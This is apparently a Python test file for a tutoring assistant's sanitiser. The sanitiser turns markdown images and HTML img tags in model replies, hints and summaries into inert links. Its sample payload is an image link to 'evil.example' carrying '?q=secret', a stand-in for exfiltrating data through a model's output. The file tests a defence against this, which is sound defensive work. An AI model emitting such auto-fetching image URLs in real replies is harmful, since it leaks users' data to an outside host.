"""Nothing a model says makes a browser fetch something by itself."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from jupyter_tutor.core.summary import facts
from jupyter_tutor.dialogue.assistant import DialogueAssistant
from jupyter_tutor.dialogue.pictures import without_pictures
from tests.core.summed import STATE, THREE
from tests.core.values import STEADY
from tests.dialogue.examples import NOTHING
from tests.dialogue.scripted import ASKER, ScriptedModel
from tests.dialogue.test_assistant import NeverRight, open_at, reply, shuffled_choice

EVIL = "![a picture](https://evil.example/?q=secret)"
HARMLESS = "[a picture](https://evil.example/?q=secret)"


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"Look: {EVIL}.", f"Look: {HARMLESS}."),
        ("![a][b]\n\n[b]: https://evil.example", "[a][b]\n\n[b]: https://evil.example"),
        ("Well!![x](y)", "Well[x](y)"),
        ('<img src="https://evil.example">', '< img src="https://evil.example">'),
        ("<IMG\nsrc=x>", "< IMG\nsrc=x>"),
        ("a ! [b] and x != [1] and <b>c</b>", "a ! [b] and x != [1] and <b>c</b>"),
        ("if a <imgs: <image-map>", "if a <imgs: <image-map>"),
    ],
)
def test_pictures_become_links(text: str, left: str) -> None:
    assert without_pictures(text) == left


PIECES = [*"![a]()\\`\n< ", "![", "https://e.org", "<img src=x>"]


@STEADY
@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_no_picture_is_left_however_it_is_written(pieces: list[str]) -> None:
    text = without_pictures("".join(pieces))

    html = MarkdownIt("commonmark", {"html": True}).render(f"{text}\n\n[a]: https://evil.example")

    assert "<img" not in html


async def test_none_is_shown_or_recorded_in_a_reply() -> None:
    lesson, question, _ = shuffled_choice()
    told = (
        f"CONFIDENCE: 0.9 | RESTS ON: 1\nThink of what each does. {EVIL}\n\nThen try one. {EVIL}\n"
    )
    assistant = DialogueAssistant(ScriptedModel([told]), NeverRight(), NeverRight())
    heard: list[str] = []
    grown: list[str] = []

    answered = await reply(
        assistant, lesson, open_at(question.id), question.prompt, heard=heard, grown=grown
    )

    shown = [answered.words, *heard, *grown]
    assert HARMLESS in answered.words
    assert [text for text in shown if "![" in text] == []


async def test_none_is_in_a_hint_or_a_summary() -> None:
    lesson, question, _ = shuffled_choice()
    summary = "You have gone on well."
    model = ScriptedModel([f"Look at this. {EVIL}", f"{summary} {EVIL}"])
    assistant = DialogueAssistant(model, NeverRight(), NeverRight())

    hinted = await assistant.hint(
        question.id, context=open_at(question.id), lesson=lesson, asker=ASKER
    )
    summed = await assistant.summary(
        facts(STATE, THREE), context=NOTHING, lesson=THREE, asker=ASKER
    )

    assert (hinted.words, summed) == (f"Look at this. {HARMLESS}", f"{summary} {HARMLESS}")
